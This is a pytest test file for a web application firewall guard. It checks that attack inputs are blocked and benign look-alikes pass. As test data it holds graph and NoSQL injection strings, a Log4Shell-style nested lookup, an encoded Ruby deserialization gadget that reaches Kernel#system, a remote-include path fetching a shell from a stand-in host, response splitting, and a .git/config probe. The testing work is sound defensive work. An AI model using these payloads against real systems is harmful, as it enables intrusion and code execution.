"""The readings the seventeenth blind set prompted, and the documents read as data before it was
scored, each as a technique through the whole guard (issue 17; docs/waf.md)."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest

from bastion.config.waf import WAFConfig
from bastion.core.context import Context
from bastion.core.request import Headers, Request
from bastion.guards.waf import WAFGuard


@pytest.fixture(scope="module")
def guard() -> WAFGuard:
    return WAFGuard(WAFConfig())


def refused(
    guard: WAFGuard, path: str = "/api/v1/items", body: str | None = None, content_type: str = "", query: str = ""
) -> bool:
    headers = [("host", "api.test"), ("user-agent", "Mozilla/5.0 Firefox/126.0")]
    if content_type:
        headers.append(("content-type", content_type))
    request = Request(
        method="POST" if body is not None else "GET",
        path=path,
        query=query,
        headers=Headers(headers),
        client="127.0.0.1",
        body=body.encode() if body is not None else None,
    )
    verdict = guard.check(request, Context("waf-seventeenth-0001"))
    return verdict is not None and verdict.status == 403


def refused_json(guard: WAFGuard, document: object) -> bool:
    return refused(guard, body=json.dumps(document), content_type="application/json")


def multipart(name: str, filename: str, content: str) -> tuple[str, str]:
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
        f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n--{boundary}--\r\n"
    )
    return body, f"multipart/form-data; boundary={boundary}"


RUBY_GADGET = base64.b64encode(
    b"\x04\x08o:\x15Net::WriteAdapter\x07:\x0c@socketo:\x14Gem::RequestSet\x06:\n@sets"
    b"o;\x00\x07;\x06o:\x0bKernel\x00:\x0f@method_id:\x0bsystem"
).decode()
RAILS_SESSION = base64.b64encode(
    b'\x04\x08{\x07I"\x0fsession_id\x06:\x06ETI"%0f4c1b2a9d8e7f6a5b4c3d2e1f0a9b8c7d\x06;\x00T'
    b'I"\x10_csrf_token\x06;\x00FI"\x1dq2w3e4r5t6y7u8i9o0pa1s2d3f4g5\x06;\x00F'
).decode()


@pytest.mark.parametrize(
    "value",
    [
        "' CALL dbms.procedures() YIELD name RETURN name//",  # a Neo4j procedure called for its rows
        "g.V().drop().iterate()",  # a Gremlin traversal
        "FOR u IN users FILTER u.role == 'admin' RETURN u.password",  # a whole AQL query
        "1; return db.getCollectionNames();",  # the MongoDB shell's admin calls
        "' || this.password[0] == 'a",  # $where, one character at a time
        "open(my $f, '-|', 'env'); print <$f>;",  # Perl's open of a pipe
        "${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}",  # a lookup whose text is another lookup
        "uid=*,ou=people,dc=example,dc=com",  # a wildcard where a DN has a literal
        RUBY_GADGET,  # a Ruby Marshal stream through RubyGems and Net::WriteAdapter to Kernel#system
    ],
)
def test_the_seventeenth_blind_sets_techniques_are_refused(guard: WAFGuard, value: str) -> None:
    assert refused_json(guard, {"filter": value})


def test_a_remote_include_as_path_info_and_a_response_split_at_a_values_end_are_refused(guard: WAFGuard) -> None:
    assert refused(guard, path="/templates/load.php/http://dl%E3%80%82updates.example/shell.txt")
    assert not refused(guard, path="/web/2020/https://example.com/robots.txt")  # an archive's address
    review = "Thanks everyone who joined the call at short notice. -- en\r\nSet-Cookie: x=1"
    assert refused_json(guard, {"summary": review})
    assert not refused_json(guard, {"summary": "The server sent Set-Cookie: x=1\nand nothing else."})


@pytest.mark.parametrize(
    "document",
    [
        {"session": RAILS_SESSION},  # a Rails session: a hash of strings
        {"code": "int n = Runtime.getRuntime().availableProcessors();"},
        {"body": "Write the logs to ${sys:catalina.base}/logs, as the PatternLayout above says."},
        {
            "html": '<p>Welcome!</p><noscript><img src="/pixel.gif" alt="" width="1" height="1"></noscript>'
            '<p>Read the <a href="https://blog.example.com/hello">launch post</a>.</p>'
        },
    ],
)
def test_what_the_seventeenth_sets_readings_leave_alone(guard: WAFGuard, document: dict[str, str]) -> None:
    assert not refused_json(guard, document)


def test_files_a_repository_commits_are_no_hidden_path(guard: WAFGuard) -> None:
    assert not refused(guard, path="/repos/acme/api/contents/.github/workflows/ci.yml")
    assert refused(guard, path="/repos/acme/api/contents/.git/config")


def test_a_design_tools_svg_export_is_a_drawing(guard: WAFGuard) -> None:
    svg = (
        '<!-- Generator: Adobe Illustrator 28.0 -->\n<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
        '<style>.a{fill:#0a7}</style><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/>'
        '</linearGradient></defs><rect class="a" width="64" height="64"/><text x="4" y="40">R&amp;D</text></svg>'
    )
    body, content_type = multipart("logo", "logo.svg", svg)
    assert not refused(guard, path="/api/v1/uploads", body=body, content_type=content_type)
    fetching = svg.replace(".a{fill:#0a7}", "@import url(//evil.example/x.css);")
    body, content_type = multipart("logo", "logo.svg", fetching)
    assert refused(guard, path="/api/v1/uploads", body=body, content_type=content_type)


def test_an_svg_icon_url_in_a_query_is_read_decoded(guard: WAFGuard) -> None:
    icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><path d="M0 0h8v8z"/></svg>'
    url = "data:image/svg+xml;base64," + base64.b64encode(icon.encode()).decode()
    assert not refused(guard, path="/api/v1/badges", query="icon=" + quote(url, safe=""))
